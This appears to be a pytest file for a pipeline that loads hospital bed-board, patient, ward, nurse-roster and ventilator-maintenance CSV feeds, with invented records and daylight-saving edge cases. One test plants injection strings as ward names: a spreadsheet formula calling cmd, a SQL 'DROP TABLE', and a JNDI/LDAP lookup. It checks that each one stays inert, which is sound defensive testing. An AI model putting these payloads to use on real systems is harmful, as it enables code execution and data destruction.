"""A bed board, a roster and a maintenance log as they come, and the rows they become."""

# Tables and records are drawn as wide as they are.
# ruff: noqa: E501

from __future__ import annotations

from io import BytesIO
from textwrap import dedent

import pytest

from tests.support.text_table import expect
from twinlake.catalog.sources.operations import SYSTEM
from twinlake.engine.wire import Fault, FileFault, Record, reader

STAYS = """
stay_id,patient_id,visit_id,ward,bed,arrived_at,left_at,updated_at
s1,p1,v1,ED,,2026-11-01 00:30:00,2026-11-01 01:30:00,2026-11-01 02:00:00
s2,p1,v1,4 West,12A,2026-11-01 01:30:00,,2026-11-01 02:00:00
s3,p2,,4 West,12B,2026-11-01T05:30:00Z,2026-03-08 02:15:00,
"""


def test_a_stay_is_an_occupied_bed_and_an_hour_the_clock_shows_twice_or_never_is_marked(implement) -> None:
    """New York's clocks went back from 2 to 1 on 2026-11-01 and from 2 to 3 on 2026-03-08."""
    status = """
    event_id,ward,bed,status,began_at,ended_at,updated_at
    b1,4 West,12A,Cleaning,2026-11-03 10:00:00,2026-11-03 10:45:00,
    b2,4 West,14,Lent,2026-11-03 10:00:00,,
    """
    expect(
        implement(SYSTEM, "bed_event", bed_stays=STAYS, bed_status=status),
        """
        source_person_id | visit_source_id | care_site_source_id | bed_source_value | bed_status_code | bed_status_source_value | bed_event_start_datetime | bed_event_end_datetime | time_quality
        p1               | v1              | ED                  |                  | O               | occupied                | 2026-11-01 04:30         | 2026-11-01 05:30       | overlap
        p1               | v1              | 4 West              | 12A              | O               | occupied                | 2026-11-01 05:30         |                        | overlap
        p2               |                 | 4 West              | 12B              | O               | occupied                | 2026-11-01 05:30         | 2026-03-08 07:15       | gap
                         |                 | 4 West              | 12A              | H               | Cleaning                | 2026-11-03 15:00         | 2026-11-03 15:45       |
                         |                 | 4 West              | 14               | LENT            | Lent                    | 2026-11-03 15:00         |                        |
        """,
    )


def test_a_patient_is_a_person_and_a_ward_is_a_place_of_care(implement) -> None:
    patients = """
    patient_id,mrn,given_name,family_name,birth_date,sex
    p1,M1,Ada,O'Brien,1950-02-03,F
    """
    wards = """
    ward,name,type,beds
    ED,Emergency department,er,
    4 West,"Medicine, 4 West",HU,28
    """
    expect(
        implement(SYSTEM, "source_person", patients=patients),
        """
        source_person_id | mrn | given_name | family_name | birth_date | sex
        p1               | M1  | ADA        | O'BRIEN     | 1950-02-03 | female
        """,
    )
    expect(
        implement(SYSTEM, "care_site", wards=wards),
        """
        care_site_source_id | care_site_name       | care_site_type_code | bed_count
        ED                  | Emergency department | ER                  |
        4 West              | Medicine, 4 West     | HU                  | 28
        """,
    )


def test_a_night_shift_is_an_hour_longer_when_the_clocks_are_turned_back(implement) -> None:
    shifts = """
    shift_id,staff_id,role,ward,status,planned_start,planned_end,worked_start,worked_end,break_minutes,updated_at
    h1,n1,Registered nurse,4 West,Worked,2026-10-31 19:00:00,2026-11-01 07:00:00,2026-10-31 18:55:00,2026-11-01 07:20:00,60,
    h2,n1,Registered nurse,4 West,Planned,2026-11-02 19:00:00,2026-11-03 07:00:00,,,,
    h3,,,4 West,planned,2026-11-02 19:00:00,2026-11-03 07:00:00,,,about an hour,
    """
    rows = implement(SYSTEM, "staff_shift", shifts=shifts)
    expect(
        rows.selectExpr("*", "timestampdiff(HOUR, shift_start_datetime, shift_end_datetime) AS hours"),
        """
        staff_source_id | staff_role_code  | staff_role_vocabulary | shift_status | hours | worked_start_datetime | worked_end_datetime | break_minutes
        n1              | registered_nurse | local                 | worked       | 13    | 2026-10-31 22:55      | 2026-11-01 12:20    | 60
        n1              | registered_nurse | local                 | planned      | 12    |                       |                     |
                        |                  |                       | planned      | 12    |                       |                     |
        """,
    )


def test_an_entry_of_the_maintenance_log_is_an_event(implement) -> None:
    equipment = """
    log_number,asset_id,asset_type,ward,status,changed_at,work_order,updated_at
    17,V-1,Ventilator,ICU,In service,2026-11-03 10:00:00,,
    18,V-1,Ventilator,ICU,In repair,soon,WO-9,
    """
    expect(
        implement(SYSTEM, "equipment_event", equipment=equipment),
        """
        equipment_source_value | equipment_type_source_value | care_site_source_id | equipment_status_code | equipment_event_datetime | equipment_log_number | work_order_source_value
        V-1                    | Ventilator                  | ICU                 | in_service            | 2026-11-03 15:00         | 17                   |
        V-1                    | Ventilator                  | ICU                 | in_repair             |                          | 18                   | WO-9
        """,
    )


def read(name: str, content: bytes) -> list[Record | Fault]:
    """What landing makes of a file of the feed."""
    return list(reader("csv")(BytesIO(content), SYSTEM.feed(name)))


def test_a_cut_mis_encoded_or_unbalanced_line_costs_itself_only() -> None:
    header, *lines = dedent(STAYS).strip().encode().split(b"\n")
    bad = [b"s4,p2,v2,4 West,12", b"s5,p2,v2,4 W\xffst,12C,2026-11-01 00:30:00,,", b's6,p2,v2,"4 West,12C,,,']
    found = read("bed_stays", b"\n".join([header, lines[0], *bad, *lines[1:]]))
    assert [getattr(r, "rule", r.identity if isinstance(r, Record) else "") for r in found] == [
        "s1", "field_count", "not_utf8", "unbalanced_quote", "s2", "s3",
    ]  # fmt: skip


def test_what_was_never_updated_gives_way_to_its_update_whenever_either_came() -> None:
    header, *lines = dedent(STAYS).strip().encode().split(b"\n")
    versions = [record.version for record in read("bed_stays", b"\n".join([header, *lines]))]
    assert versions == ["2026-11-01 02:00:00", "2026-11-01 02:00:00", "0001-01-01T00:00:00Z"]


def test_a_value_that_looks_like_code_stays_a_value() -> None:
    """A formula, SQL, a separator and another line in a ward's name: none does anything, none moves a column."""
    hostile = ["=cmd|' /C calc'!A0", "x'; DROP TABLE bed_event; --", "a,b", "a\nb", "${jndi:ldap://x}"]
    lines = ["stay_id,patient_id,visit_id,ward,bed,arrived_at,left_at,updated_at"]
    lines += [f's{n},p{n},,"{ward}",1,2026-11-01,,' for n, ward in enumerate(hostile)]
    found = read("bed_stays", "\n".join(lines).encode())
    assert [(r.identity, r.person) for r in found if isinstance(r, Record)] == [(f"s{n}", f"p{n}") for n in range(5)]
    assert len(found) == 5


@pytest.mark.parametrize(
    ("header", "why"),
    [
        ("stay_id,patient_id,visit_id,ward,bed,left_at,arrived_at,updated_at", "another order"),
        ("stay_id,patient_id,visit_id,ward,room,arrived_at,left_at,updated_at", "missing ['bed'], unknown ['room']"),
        ("s1,p1,v1,ED,,2026-11-01 00:30:00,,", "0 of the 8 names"),
        ("", "no header"),
    ],
)
def test_another_header_refuses_the_file_and_tells_no_value_of_it(header: str, why: str) -> None:
    with pytest.raises(FileFault) as refused:
        read("bed_stays", header.encode())
    assert why in str(refused.value) and "p1" not in str(refused.value)


@pytest.mark.parametrize(
    ("path", "feed"),
    [
        ("bed_stays.csv", "bed_stays"), ("daily/bed_stays_2026-11-01.csv", "bed_stays"), ("bed_status.csv", "bed_status"),
        ("patients.csv", "patients"), ("wards.csv", "wards"), ("shifts.csv", "shifts"), ("equipment.csv", "equipment"),
        ("bed.csv", None),
    ],
)  # fmt: skip
def test_a_file_is_known_by_its_name(path: str, feed: str | None) -> None:
    found = SYSTEM.feed_of(path)
    assert (found.name if found else None) == feed
